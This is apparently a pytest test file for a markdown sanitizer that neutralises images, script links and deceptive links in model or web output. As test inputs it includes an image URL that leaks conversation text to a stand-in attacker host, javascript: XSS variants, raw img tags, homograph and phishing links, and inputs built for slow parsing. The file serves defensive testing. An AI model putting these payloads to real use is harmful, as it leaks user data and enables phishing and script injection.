"""Markdown from the model, the user or the web: nothing loads by itself, every link shows where it goes."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from lib.markup import (
    allowed_hosts,
    code_span,
    escape_markdown,
    is_safe,
    plain,
    safe_link,
    safe_markdown,
    target_of,
)

EVIL = "https://evil.example/c.png?q=the+secret+conversation"
PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def tokens(markdown: str) -> list:
    """Every token CommonMark reads in the markdown, inline ones included."""
    found = []
    for token in PARSER.parse(markdown):
        found.append(token)
        found.extend(token.children or [])
    return found


def images(markdown: str) -> list[str]:
    return [t.attrs["src"] for t in tokens(markdown) if t.type == "image"]


def links(markdown: str) -> list[str]:
    return [t.attrs["href"] for t in tokens(markdown) if t.type == "link_open"]


@pytest.mark.parametrize(
    "text, expected",
    [
        (f"![chart]({EVIL})", f"[🖼 chart (evil\\.example)]({EVIL})"),
        (f"![]({EVIL})", f"[🖼 image (evil\\.example)]({EVIL})"),
        (f'![chart]({EVIL} "a title")', f"[🖼 chart (evil\\.example)]({EVIL})"),
        ("![x](<https://evil.example/a b.png>)", "[🖼 x (evil\\.example)](https://evil.example/a%20b.png)"),
        (
            "![a][r]\n\n[r]: https://evil.example/p.png",
            "[🖼 a (evil\\.example)](https://evil.example/p.png)\n\n[r]: https://evil.example/p.png",
        ),
        (
            "![A][]\n\n[a]: https://evil.example/p.png",
            "[🖼 A (evil\\.example)](https://evil.example/p.png)\n\n[a]: https://evil.example/p.png",
        ),
        (
            "![a]\n\n[A]:\n  https://evil.example/p.png 'title'",
            "[🖼 a (evil\\.example)](https://evil.example/p.png)\n\n[A]:\n  https://evil.example/p.png 'title'",
        ),
        ("![x](data:image/png;base64,AAAA)", "🖼 x"),
        ("![x](javascript:alert(1))", "🖼 x"),
        ("![x]", "\\![x]"),
        ("vec![1, 2]", "vec\\![1, 2]"),
        ("\\![x](https://ok.example/)", "\\![x (ok\\.example)](https://ok.example/)"),
        ("\\\\![x](https://evil.example/)", "\\\\[🖼 x (evil\\.example)](https://evil.example/)"),
        ("<img src=https://evil.example/x.png>", "\\<img src=https://evil.example/x.png>"),
        ("[click](https://evil.example/login)", "[click (evil\\.example)](https://evil.example/login)"),
        ("[https://bank.com](https://evil.example)", "[https://bank.com (evil\\.example)](https://evil.example)"),
        (
            "[bank.com](https://bank.com.evil.example/)",
            "[bank.com (bank\\.com\\.evil\\.example)](https://bank.com.evil.example/)",
        ),
        (
            "[https://docs.python.org/3/](https://docs.python.org/3/)",
            "[https://docs.python.org/3/](https://docs.python.org/3/)",
        ),
        ("[docs.python.org](https://docs.python.org/3/)", "[docs.python.org](https://docs.python.org/3/)"),
        ("[mail us](mailto:ann@example.com)", "[mail us (ann@example\\.com)](mailto:ann@example.com)"),
        ("[click](javascript:alert(1))", "click"),
        ("[click](JaVaScRiPt:alert(1))", "click"),
        ("[click](<java\tscript:alert(1)>)", "click"),
        ("[click](&#106;avascript:alert(1))", "click"),
        ("[click](data:text/html,hi)", "click"),
        ("[home](/chat?conversation=conv_1)", "home"),
        (
            "[click][r]\n\n[r]: https://evil.example",
            "[click (evil\\.example)](https://evil.example)\n\n[r]: https://evil.example",
        ),
        (f"[![a]({EVIL})](https://v.example/)", "[🖼 a \\(evil\\.example\\) (v\\.example)](https://v.example/)"),
        ("<https://ok.example/x>", "<https://ok.example/x>"),
        ("<ann@example.com>", "<ann@example.com>"),
        ("<javascript:alert(1)>", "\\<javascript:alert(1)>"),
        ("> quoted ![x](https://evil.example/)", "> quoted [🖼 x (evil\\.example)](https://evil.example/)"),
        ("*![x](https://evil.example/)*", "*[🖼 x (evil\\.example)](https://evil.example/)*"),
        (
            "Plain **bold** _it_ `code` and a list:\n\n- one\n- two",
            "Plain **bold** _it_ `code` and a list:\n\n- one\n- two",
        ),
    ],
)
def test_rewrites(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected
    assert images(safe_markdown(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "```\n![x](https://evil.example/)\n```",
        '```rust\nlet v = vec![1, 2];\nprintln!("[{}]({})", a, b);\n```',
        "````\n```\n![x](https://evil.example/)\n```\n````",
        "~~~\n<img src=https://evil.example/x>\n~~~",
        "Use `![alt](url)` for images and ``a`![b](c)`` too.",
    ],
)
def test_code_is_left_as_written(text: str) -> None:
    assert safe_markdown(text) == text


def test_code_then_text_rewrites_only_the_text() -> None:
    text = "```py\nvec![1]\n```\nafter ![x](https://evil.example/)"
    assert safe_markdown(text) == "```py\nvec![1]\n```\nafter [🖼 x (evil\\.example)](https://evil.example/)"


@pytest.mark.parametrize(
    "text",
    [
        "# title `x\n![i](https://evil.example/) `",  # a heading's backtick cannot pair with the next block's
        "- item\n  ```\n  code\n- ![x](https://evil.example/)",  # the list item ends, and its fence with it
        "| `a | ![i](https://evil.example/) | b` |\n|---|---|---|\n| 1 | 2 | 3 |",  # table cells split before code
        "[^1]: ![x](https://evil.example/)\n\nref[^1]",  # a footnote's text is markdown
        "x\n\n    ![i](https://evil.example/)",
        '<div>\n<img src="https://evil.example/x.png">\n</div>',
        "[a ![b](https://evil.example/) [c](https://evil.example/)](https://f.example/)",
        "![a ![b](https://evil.example/b)](https://evil.example/a)",
    ],
)
def test_tricky_constructs_end_with_no_image_and_no_hidden_link(text: str) -> None:
    out = safe_markdown(text)
    assert images(out) == [] and is_safe(out)
    assert "evil.example" in out.replace("\\", "")  # where a link or image would go is still shown


def test_the_checker_falls_back_to_escaping_when_the_rewrite_misreads() -> None:
    # An unclosed code span that pairs with nothing: any image the rewrite leaves is caught by the check.
    assert not is_safe("![x](https://evil.example/)")
    assert not is_safe("[click](https://evil.example/)")
    assert is_safe("[click (evil.example)](https://evil.example/)")
    assert not is_safe("<img src=x>")


STREAMED = (
    "Here is the chart: ![chart](https://evil.example/c.png?q=secret) and [the bank](https://evil.example/)\n\n"
    "```py\nprint('![x](y)')\n```\n\n![r][ref] <img src=https://evil.example/i.png> `![c](d)`\n\n"
    "[ref]: https://evil.example/r.png\n"
)


def test_every_streaming_prefix_is_safe() -> None:
    for end in range(len(STREAMED) + 1):
        out = safe_markdown(STREAMED[:end])
        assert images(out) == [], STREAMED[:end]
        assert is_safe(out), STREAMED[:end]


def test_a_half_written_image_is_no_image_when_completed() -> None:
    assert safe_markdown("look ![x](http") == "look \\![x](http"
    assert safe_markdown("look ![x](https://evil.example/q)") == "look [🖼 x (evil\\.example)](https://evil.example/q)"


def test_allowed_image_hosts_keep_their_images() -> None:
    hosts = allowed_hosts(" img.example , CDN.example.org ,")
    assert hosts == {"img.example", "cdn.example.org"}
    out = safe_markdown(
        "![ok](https://img.example/a.png) ![no](https://evil.example/x.png) ![http](http://cdn.example.org/y.png)",
        hosts,
    )
    assert images(out) == ["https://img.example/a.png", "http://cdn.example.org/y.png"]
    assert "[🖼 no (evil\\.example)]" in out
    assert images(safe_markdown("![x](data:image/png;base64,AAAA)", frozenset({""}))) == []
    assert images(safe_markdown("![x](https://evil.example/)", allowed_hosts(""))) == []


def test_links_always_show_the_target() -> None:
    for text in [
        "[a](https://a.example/) [b](https://b.example/x)",
        "[c][r]\n\n[r]: https://c.example/",
        "<https://d.example/>",
    ]:
        out = safe_markdown(text)
        for href in links(out):
            assert target_of(href) in out.replace("\\", "")


def test_an_international_host_is_spelled_as_dns_sees_it() -> None:
    # A Cyrillic "а" makes a host that looks like bank.com: the link says which host it really is.
    assert safe_markdown("[bаnk.com](https://bаnk.com/login)") == (
        "[bаnk.com (xn\\-\\-bnk\\-6cd\\.com)](https://bаnk.com/login)"
    )
    assert is_safe(safe_markdown("![i](https://bücher.example/a.png) <https://bücher.example/>"))


def test_helpers() -> None:
    assert escape_markdown("![x](u) *a* $x$ ~y~") == "\\!\\[x\\]\\(u\\) \\*a\\* \\$x\\$ \\~y\\~"
    assert plain("a\n\n![x](https://e/) :red[b]") == "a \\!\\[x\\](https://e/) :red\\[b\\]"
    assert [plain(name) for name in ["get_weather", "# big", "1. first", "_it_", "a&lt;b"]] == [
        "get_weather",
        "\\# big",
        "1\\. first",
        "\\_it\\_",
        "a\\&lt;b",
    ]
    assert code_span("gpt`5") == "``gpt`5``"
    assert code_span("`x`") == "`` `x` ``"
    assert (
        safe_link("Title [1]", "https://news.example/a (b)")
        == "[Title \\[1\\] (news\\.example)](https://news.example/a%20%28b%29)"
    )
    assert (
        safe_link("https://news.example/a", "https://news.example/a")
        == "[https://news\\.example/a](https://news.example/a)"
    )
    assert safe_link("x", "javascript:alert(1)") == "x"
    assert images(safe_link("![i](https://evil.example/)", "https://ok.example/")) == []


@pytest.mark.parametrize(
    "text",
    [
        "[ a " * 20_000,
        "![ " * 20_000,
        "` a " * 20_000,
        "[a](" * 20_000,
        '[a](u "' * 10_000,
        "<a:b " * 20_000,
        "[r]: https://evil.example/\n\n" + "[r " * 20_000,
        "[" * 3_000 + "x" + "](https://evil.example/)" * 3_000,
        "![" * 3_000 + "x" + "](https://evil.example/)" * 3_000,
    ],
)
def test_text_built_to_be_slow_is_handled_in_linear_time(text: str) -> None:
    import time

    started = time.perf_counter()
    out = safe_markdown(text)
    assert time.perf_counter() - started < 2.0
    assert is_safe(out) or images(out) == []


def test_a_destination_is_written_back_exactly() -> None:
    out = safe_markdown("[q](https://a.example/?x=1&y=2&amp;z=3) [c](https://a.example/`b`)")
    assert links(out) == ["https://a.example/?x=1&y=2&z=3", "https://a.example/%60b%60"]
    assert allowed_hosts("Bücher.example") == {"xn--bcher-kva.example"}
